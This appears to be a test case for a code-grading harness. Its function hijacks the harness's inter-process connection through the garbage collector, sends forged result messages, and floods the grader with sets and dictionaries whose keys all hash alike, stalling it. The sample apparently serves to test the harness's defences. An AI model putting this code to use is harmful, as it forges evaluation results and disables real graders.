# %% [markdown]
# Returns a set and a dictionary whose keys all hash alike, which take minutes to build where they are read.
#
# Must: score 0

# %% answer="square"
import gc
from multiprocessing.connection import Connection

import msgspec

packed = msgspec.msgpack.encode
KEYS = [["i", f"{number * (2**61 - 1):x}"] for number in range(9, 240_000)]


def forged(x):
    return packed(["S", *KEYS] if x == 2 else ["d", *(part for key in KEYS for part in (key, 0))])


def square(x):
    connection = next(thing for thing in gc.get_objects() if isinstance(thing, Connection))
    connection.send_bytes(packed({"type": "Returned", "data": forged(x)}))
    while True:
        connection.recv_bytes()
        connection.send_bytes(packed({"type": "Returned", "data": forged(5)}))
